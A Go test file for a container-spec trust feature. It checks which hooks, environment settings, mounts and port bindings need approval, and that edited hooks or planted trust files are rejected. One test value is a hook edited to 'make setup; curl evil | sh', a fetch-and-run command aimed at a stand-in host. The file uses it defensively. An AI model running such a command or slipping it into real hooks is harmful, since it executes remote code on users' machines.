package boxfile

import (
	"os"
	"path/filepath"
	"testing"
)

// TestHookTrust: trust is for one project and one content of its box; an
// edited hook or image, another project, or a planted trust file that is a
// link or names something else is not trusted.
func TestHookTrust(t *testing.T) {
	tr := HookTrust{Dir: filepath.Join(t.TempDir(), "trust")}
	s := Spec{Name: "proj", Image: "debian", OnCreate: []string{"make setup"}}
	for _, c := range []struct {
		name string
		s    Spec
		want bool
	}{
		{"a hook", s, true},
		{"a start hook", Spec{Name: "proj", Image: "debian", OnStart: []string{"x"}}, true},
		{"an exported command", Spec{Name: "proj", Image: "debian", Bins: []string{"/usr/bin/git"}}, true},
		{"an exported app", Spec{Name: "proj", Image: "debian", Apps: []string{"org.gnome.TextEditor"}}, true},
		{"an environment", Spec{Name: "proj", Image: "debian", Env: []string{"BASH_ENV=/src/proj/x.sh"}}, true},
		{"a mount", Spec{Name: "proj", Image: "debian", Volumes: []string{"/src/proj/bin:/usr/local/bin"}}, true},
		{"image, packages and loopback ports only", Spec{Name: "proj", Image: "debian", Packages: []string{"less"}, Ports: []string{"8080:8080", "127.0.0.1:81:80", "[::1]:82:80/udp"}}, false},
		{"a port on every interface", Spec{Name: "proj", Image: "debian", Ports: []string{"0.0.0.0:2222:22"}}, true},
		{"a port on a LAN address", Spec{Name: "proj", Image: "debian", Ports: []string{"192.168.1.5:80:80"}}, true},
		{"a port that does not parse", Spec{Name: "proj", Image: "debian", Ports: []string{"80:80:80:80"}}, true},
		{"the host's network", Spec{Name: "proj", Image: "debian", Network: "host"}, true},
		// Other spellings of every interface, and ports that do not parse
		// (a red-team pass; it held).
		{"every IPv6 interface", Spec{Name: "proj", Image: "debian", Ports: []string{"[::]:2222:22"}}, true},
		{"every interface, IPv4-mapped", Spec{Name: "proj", Image: "debian", Ports: []string{"[::ffff:0.0.0.0]:2222:22"}}, true},
		{"a host name", Spec{Name: "proj", Image: "debian", Ports: []string{"localhost:2222:22"}}, true},
		{"a range", Spec{Name: "proj", Image: "debian", Ports: []string{"127.0.0.1:2222-2230:22"}}, true},
		{"a zone", Spec{Name: "proj", Image: "debian", Ports: []string{"[fe80::1%eth0]:2222:22"}}, true},
		{"a short IPv4 form", Spec{Name: "proj", Image: "debian", Ports: []string{"127.1:2222:22"}}, true},
		{"loopback, IPv4-mapped", Spec{Name: "proj", Image: "debian", Ports: []string{"[::ffff:127.0.0.1]:2222:22"}}, false},
	} {
		if NeedsTrust(c.s) != c.want {
			t.Errorf("NeedsTrust, %s: %v, want %v", c.name, !c.want, c.want)
		}
	}
	if tr.Trusted("/src/proj", s) {
		t.Fatal("trusted before anything was remembered")
	}
	if err := tr.Remember("/src/proj", s); err != nil {
		t.Fatal(err)
	}
	if !tr.Trusted("/src/proj", s) || !tr.Trusted("/src/proj/", s) {
		t.Error("the remembered project is not trusted")
	}
	edited := s
	edited.OnCreate = []string{"make setup; curl evil | sh"}
	otherImage := s
	otherImage.Image = "evil/image"
	for name, c := range map[string]struct {
		project string
		s       Spec
	}{
		"edited hook": {"/src/proj", edited}, "other image": {"/src/proj", otherImage}, "other project": {"/src/other", s},
	} {
		if tr.Trusted(c.project, c.s) {
			t.Errorf("%s: trusted", name)
		}
	}
	// Planted trust files.
	key, _ := trustKey("/src/proj", edited)
	p := filepath.Join(tr.Dir, key)
	good, _ := trustKey("/src/proj", s)
	if err := os.Symlink(filepath.Join(tr.Dir, good), p); err != nil {
		t.Fatal(err)
	}
	if tr.Trusted("/src/proj", edited) {
		t.Error("a link to another trust file counts")
	}
	os.Remove(p)
	b, _ := os.ReadFile(filepath.Join(tr.Dir, good))
	os.WriteFile(p, b, 0o600) // the right name, another project's content
	if tr.Trusted("/src/proj", edited) {
		t.Error("a trust file naming another content counts")
	}
	if err := tr.Remember("/src/proj", edited); err != nil || !tr.Trusted("/src/proj", edited) {
		t.Errorf("remembering over a planted file: %v", err)
	}
}
